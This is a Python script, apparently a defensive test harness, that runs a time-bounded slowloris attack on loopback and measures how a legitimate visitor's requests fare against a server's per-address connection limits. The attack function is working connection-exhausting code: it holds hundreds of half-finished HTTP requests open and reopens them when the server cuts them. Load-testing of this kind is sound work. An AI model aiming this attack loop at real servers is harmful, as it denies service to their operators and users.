"""A slowloris attack and a visitor, both on loopback, bounded in time.

    slowloris.py PORT [--connections N] [--seconds S] [--path P]

N connections from 127.0.0.3 each send a request line and then one header line a second,
never finishing (reopened when the server cuts them). Meanwhile a visitor from 127.0.0.2
asks for PATH ten times a second on fresh connections. Prints one JSON line: the visitor's
answers by status, its worst and median times, and how many attack connections were open.
Two source addresses, so that a per-address cap tells the attacker from the visitor as it
would on the Internet.
"""
import argparse
import json
import socket
import statistics
import threading
import time

ATTACKER, VISITOR = "127.0.0.3", "127.0.0.2"


def open_attacker(port):
    s = socket.socket()
    s.settimeout(1)
    s.bind((ATTACKER, 0))
    s.connect(("127.0.0.1", port))
    s.sendall(b"GET /clusters HTTP/1.1\r\nHost: x\r\n")
    s.setblocking(False)
    return s


def attack(port, count, until, state):
    sockets = []
    while time.monotonic() < until:
        while len(sockets) < count and time.monotonic() < until:
            try:
                sockets.append(open_attacker(port))
            except OSError:
                break
        alive = []
        for s in sockets:
            try:
                s.send(b"X-Slow: a\r\n")
                alive.append(s)
            except OSError:  # cut by the server: reopened next round
                s.close()
        sockets = alive
        state["open"] = len(sockets)
        time.sleep(1)
    for s in sockets:
        s.close()


def visit(port, path):
    started = time.monotonic()
    try:
        with socket.socket() as s:
            s.settimeout(5)
            s.bind((VISITOR, 0))
            s.connect(("127.0.0.1", port))
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        status = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else "garbled"
    except OSError as error:
        status = type(error).__name__
    return status, (time.monotonic() - started) * 1000


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=300)
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--path", default="/clusters")
    args = parser.parse_args()
    until = time.monotonic() + args.seconds
    state = {"open": 0}
    attacker = threading.Thread(target=attack, args=(args.port, args.connections, until, state))
    attacker.start()
    time.sleep(min(2, args.seconds / 3))  # let the attack build up
    statuses, times, most_open = {}, [], 0
    while time.monotonic() < until - 0.5:
        status, ms = visit(args.port, args.path)
        statuses[status] = statuses.get(status, 0) + 1
        times.append(ms)
        most_open = max(most_open, state["open"])
        time.sleep(0.1)
    attacker.join()
    print(json.dumps({"visits": len(times), "statuses": statuses,
                      "worst_ms": round(max(times), 1), "median_ms": round(statistics.median(times), 1),
                      "attack_connections_open": most_open}))


if __name__ == "__main__":
    main()
